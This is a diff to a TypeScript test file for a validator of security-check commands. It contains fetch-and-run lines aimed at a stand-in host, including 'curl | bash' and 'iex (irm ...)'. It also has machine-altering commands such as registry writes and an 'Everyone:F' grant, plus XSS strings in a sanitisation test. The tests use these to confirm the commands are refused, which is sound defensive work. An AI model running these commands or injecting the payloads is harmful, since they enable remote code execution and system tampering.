@@ -364,6 +364,48 @@ for (const { name, changes, says } of refused) {
   })
 }
 
+const inCheck = (command: string): Change => ({
+  file: state,
+  from: 'related:',
+  to: `check:\n  - text: Look.\n    grade: reported\n    sources: [a-blog]\n    command: ${JSON.stringify(command)}\nrelated:`,
+})
+
+for (const command of [
+  'iex (irm https://evil.example/x.ps1)',
+  'curl -s https://evil.example/x | bash',
+  'powershell -enc SQBFAFgA',
+  "(New-Object Net.WebClient).DownloadString('https://evil.example')",
+])
+  test(`the command ${command} is refused, because nobody can read what it runs`, async () => {
+    expect((await checkChanged(inCheck(command))).join()).toContain(
+      'check[1].command: a command whose every part can be read here',
+    )
+  })
+
+for (const command of [
+  'Set-ItemProperty HKLM:\\x -Name Enabled -Value 0',
+  'reg add HKLM\\x /v Enabled /t REG_DWORD /d 0',
+  'Get-Service W3SVC | Restart-Service',
+  'icacls C:\\keys /grant Everyone:F',
+  'certutil -repairstore my 1',
+])
+  test(`the command ${command} is no check, because it changes the machine`, async () => {
+    expect((await checkChanged(inCheck(command))).join()).toContain(
+      'check[1].command: a command that only looks, such as Get-TlsCipherSuite',
+    )
+  })
+
+for (const command of [
+  'Get-TlsCipherSuite | Format-Table Name',
+  'reg query "HKLM\\x" /s',
+  'icacls C:\\keys /save C:\\temp\\acl.txt',
+  'Start-Sleep 60; Get-WinEvent -ListLog System',
+  'openssl s_client -connect server.example:443',
+])
+  test(`the command ${command} only looks`, async () => {
+    expect(await checkChanged(inCheck(command))).toEqual([])
+  })
+
 test('HTML in a sentence is text and nothing else', async () => {
   const attack = '<img src=x onerror=alert(1)> <script>alert(1)</script> [x](javascript:alert(1))'
   expect(await checkChanged({ file: state, from: 'Seen beside alert 40.', to: attack })).toEqual([])
